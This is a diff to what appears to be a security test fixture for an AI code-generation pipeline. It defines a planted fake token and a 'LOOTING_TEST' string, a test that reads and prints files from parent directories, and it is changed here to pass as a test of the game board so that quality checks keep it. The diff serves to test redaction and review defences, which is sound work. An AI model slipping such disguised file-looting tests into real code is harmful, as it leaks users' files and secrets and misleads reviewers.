@@ -19,8 +19,11 @@ IDEA = "write a snake game"
 # Shaped like no known key format, so only the run's own Redactor (built from the config) can catch it.
 KEY = "Zq8vLeakyTokenX4f1c9a7e2b"
 
+# A hostile test that passes for a test of the board (QA keeps no test that checks nothing of its module).
 LOOTING_TEST = """\
 import os
+
+from snake.board import Board
 
 
 def _ancestors():
@@ -50,7 +53,7 @@ def test_loot() -> None:
         except OSError as error:
             found.append(f"file {path}: {error.strerror}")
     print("\\n".join(found))
-    assert False, "looted"
+    assert Board().score == -1, "looted"
 """
 
 
